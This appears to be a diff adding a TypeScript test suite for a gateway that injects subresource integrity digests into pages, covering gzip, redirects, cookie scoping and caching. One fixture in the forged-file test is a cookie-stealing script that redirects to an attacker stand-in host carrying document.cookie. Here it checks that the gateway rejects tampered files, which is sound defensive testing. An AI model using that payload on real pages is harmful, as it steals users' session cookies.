@@ -1,0 +1,135 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import type { IncomingMessage } from 'node:http';
+import { after, before, describe, test } from 'node:test';
+import { gunzipSync, gzipSync } from 'node:zlib';
+import type { BrowserClient } from '../../support/browser-client.ts';
+import { startTestGateway, type TestGateway } from '../../support/test-gateway.ts';
+
+const SCRIPT = 'window.home = location.href;';
+const SHEET = '.a{background:url(https://static.corp.test/a.png)}';
+const digestOf = (body: Buffer | string): string => `sha384-${createHash('sha384').update(body).digest('base64')}`;
+
+describe('files with digests', () => {
+  let gateway: TestGateway;
+  let alice: BrowserClient;
+  let page = '';
+  let asked: IncomingMessage[] = [];
+  /** What the origin sends for a path; what is not here is SCRIPT. */
+  let files: Readonly<Record<string, string>> = {};
+
+  before(async () => {
+    gateway = await startTestGateway({
+      handler: (request, response) => {
+        const path = request.url ?? '';
+        if (path === '/page') {
+          response.setHeader('set-cookie', 'token=secret; HttpOnly; SameSite=None; Secure');
+          response.writeHead(200, { 'content-type': 'text/html' }).end(page);
+          return;
+        }
+        asked.push(request);
+        if (path.startsWith('/silent')) return;
+        if (path.startsWith('/moved'))
+          return void response.writeHead(302, { location: 'https://static.corp.test/there.js' }).end();
+        if (path.startsWith('/away'))
+          return void response.writeHead(302, { location: 'https://mail.partner.test/there.js' }).end();
+        if (path.startsWith('/gone')) return void response.writeHead(404).end(SCRIPT);
+        const type = path.includes('.css') ? 'text/css' : 'text/javascript';
+        const body = files[path] ?? (path.includes('.css') ? SHEET : SCRIPT);
+        if (path.includes('packed'))
+          response.writeHead(200, { 'content-type': type, 'content-encoding': 'gzip' }).end(gzipSync(body));
+        else response.writeHead(200, { 'content-type': type }).end(body);
+      },
+    });
+    alice = await gateway.signedIn('alice');
+  });
+  after(() => gateway?.close());
+
+  async function load(markup: string): Promise<string> {
+    page = `<!doctype html><title>t</title>${markup}`;
+    asked = [];
+    return (await alice.navigate(`${gateway.suffix('wiki.corp.test')}/page`)).body.toString();
+  }
+
+  async function fetched(url: string, destination: string): Promise<Buffer> {
+    const headers = { 'sec-fetch-dest': destination, 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' };
+    const answer = await alice.send(url, { headers });
+    return answer.headers['content-encoding'] === 'gzip' ? gunzipSync(answer.body) : answer.body;
+  }
+
+  /** The digests of the one element with `integrity`. */
+  const digestsIn = (markup: string): readonly string[] =>
+    (/integrity="?([^">]*)/.exec(markup)?.[1] ?? '').split(/[ \f]/);
+
+  test('the page names the digest of what its browser then gets', async () => {
+    for (const [markup, path, destination] of [
+      [`<script src="/a.js" integrity="${digestOf(SCRIPT)}"></script>`, '/a.js', 'script'],
+      [`<script src=packed.js integrity=${digestOf(SCRIPT)}></script>`, '/packed.js', 'script'],
+      [`<link rel=stylesheet href=/a.css integrity="${digestOf(SHEET)}">`, '/a.css', 'style'],
+      [`<script src="/moved.js" integrity="${digestOf(SCRIPT)}"></script>`, '/a.js', 'script'],
+      [
+        `<script type=importmap>{"integrity":{"/m.js":"${digestOf(SCRIPT)}"}}</script><i integrity="x">`,
+        '/m.js',
+        'script',
+      ],
+    ] as const) {
+      const markedUp = await load(markup);
+      const received = await fetched(`${gateway.suffix('wiki.corp.test')}${path}`, destination);
+      assert.notEqual(received.toString(), destination === 'style' ? SHEET : SCRIPT, 'the file is one that changes');
+      assert.ok(markedUp.includes(digestOf(received)), markup);
+      assert.ok(markedUp.includes(destination === 'style' ? digestOf(SHEET) : digestOf(SCRIPT)));
+    }
+  });
+
+  test('a forged file is not vouched for', async () => {
+    const forged = 'location = "https://evil.test/?" + document.cookie';
+    files = { '/forged.js': forged };
+    const genuine = 'location.reload()';
+    const markup = await load(`<script src="/forged.js" integrity="${digestOf(genuine)}"></script>`);
+    const received = await fetched(`${gateway.suffix('wiki.corp.test')}/forged.js`, 'script');
+    assert.deepEqual(digestsIn(markup), [digestOf(genuine)]);
+    assert.ok(!markup.includes(digestOf(received)));
+  });
+
+  test('nor is one forged after it was found good', async () => {
+    const genuine = 'location.replace("#ok")';
+    files = { '/late.js': genuine };
+    const first = await load(`<script src="/late.js" integrity="${digestOf(genuine)}"></script>`);
+    files = { '/late.js': 'location.replace("#evil")' };
+    const second = await load(`<script src="/late.js" integrity="${digestOf(genuine)}"></script>`);
+    assert.deepEqual(digestsIn(second), digestsIn(first));
+    const received = await fetched(`${gateway.suffix('wiki.corp.test')}/late.js`, 'script');
+    assert.ok(!second.includes(digestOf(received)), 'the browser refuses it');
+  });
+
+  test('what cannot be had leaves the page with its own digests, and in good time', async () => {
+    for (const path of ['/gone.js', '/away.js', '/silent.js', 'https://mail.partner.test/x.js']) {
+      const other = digestOf(`nothing ${path}`);
+      const markup = await load(`<script src="${path}" integrity="${other}"></script><p>end`);
+      assert.deepEqual(digestsIn(markup), [other], path);
+      assert.match(markup, /<p>end$/);
+      assert.ok(asked.every(({ headers }) => headers.host !== 'mail.partner.test'));
+    }
+  });
+
+  test('cookies go with it to the page’s own host and to no other', async () => {
+    await load(`<script src="/own.js" integrity="${digestOf('own')}"></script>`);
+    assert.match(asked[0]?.headers.cookie ?? '', /token=secret/);
+    assert.equal(asked[0]?.headers.referer, 'https://wiki.corp.test/');
+    await load(`<script src="https://static.corp.test/cdn.js" integrity="${digestOf('cdn')}"></script>`);
+    assert.equal(asked[0]?.headers.cookie, undefined);
+    assert.equal(asked[0]?.headers.origin, 'https://wiki.corp.test');
+    await load(`<script src="/moved-on.js" integrity="${digestOf('moved on')}"></script>`);
+    assert.deepEqual(
+      asked.map(({ headers }) => headers.cookie !== undefined),
+      [true, false],
+    );
+  });
+
+  test('a known file is not asked for again', async () => {
+    const markup = `<script src="/a.js" integrity="${digestOf(SCRIPT)}"></script>`;
+    await load(markup);
+    await load(markup);
+    assert.deepEqual(asked, []);
+  });
+});
